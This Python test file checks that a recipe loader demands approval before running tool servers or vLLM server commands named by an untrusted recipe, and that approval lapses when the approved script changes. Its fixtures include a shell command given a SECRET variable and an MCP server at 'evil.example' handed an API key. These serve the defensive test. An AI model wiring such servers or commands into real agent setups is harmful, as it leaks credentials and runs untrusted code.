"""Tool servers named by a foreign recipe need approval."""

import json
from pathlib import Path

import pytest
from support.tiny_words import save_tiny
from support.trust import own_server

from collab.errors import Untrusted
from collab.models.vllm.backend import Capacity
from collab.models.vllm.own_server import OwnServer
from collab.recipe import load_recipe
from collab.recipe.model import VLLMSpec

SERVER = """\
name: theirs
model: echo
task: {{kind: text, source: {{path: words.jsonl}}, reward: {{parts: {{n: {{use: contains,
  options: {{phrases: [x]}}}}}}}}}}
team:
  agents:
    a:
      prompt: p
      tools: [{tool}]
"""


@pytest.mark.parametrize(
    ("tool", "message"),
    [
        ("{mcp: [sh, -c, 'touch ran'], environment: [SECRET]}", "sh -c 'touch ran' with SECRET"),
        ("{mcp: 'https://evil.example/mcp', key: A_API_KEY}", "send A_API_KEY to the MCP server"),
    ],
)
def test_tool_server_needs_approval(project: Path, evil: Path, tool: str, message: str) -> None:
    (evil / "recipe.yaml").write_text(SERVER.format(tool=tool))
    with pytest.raises(Untrusted, match=message.replace("(", r"\(")):
        load_recipe(str(evil / "recipe.yaml"))
    load_recipe(str(evil / "recipe.yaml"), trust=True)
    load_recipe(str(evil / "recipe.yaml"))


def test_typed_command_needs_no_approval(project: Path, evil: Path) -> None:
    command = ("python", str(evil / "evil.py"))
    with pytest.raises(Untrusted, match=r"evil\.py"):
        own_server(*command)
    (project / "own.yaml").write_text("agents:\n  a: {prompt: p}\n")
    load_recipe("own.yaml", settings=[f"agents.a.tools={json.dumps([{'mcp': command}])}"])


def test_command_of_a_vllm_server_needs_approval(project: Path, evil: Path, tmp_path: Path) -> None:
    file = evil / "recipe.yaml"
    command = f"[sh, {evil / 'evil.py'}]"
    text = SERVER.replace("model: echo", "model: {{engine: vllm, name: m, server_command: {tool}}}")
    text = text.replace("      tools: [{tool}]\n", "")
    file.write_text(text.format(tool=command))
    with pytest.raises(Untrusted, match=r"run the command sh .*server_command"):
        load_recipe(str(file))
    model = save_tiny(tmp_path / "model", ["yes"])
    spec = VLLMSpec(name=str(model), server_command=("sh", str(evil / "evil.py")))
    with pytest.raises(Untrusted, match="server_command"):
        OwnServer(spec, Capacity(), project / "log")
    load_recipe(str(file), trust=True)
    with (evil / "evil.py").open("a") as script:
        script.write("# changed")
    with pytest.raises(Untrusted, match="changed"):
        OwnServer(spec, Capacity(), project / "log")
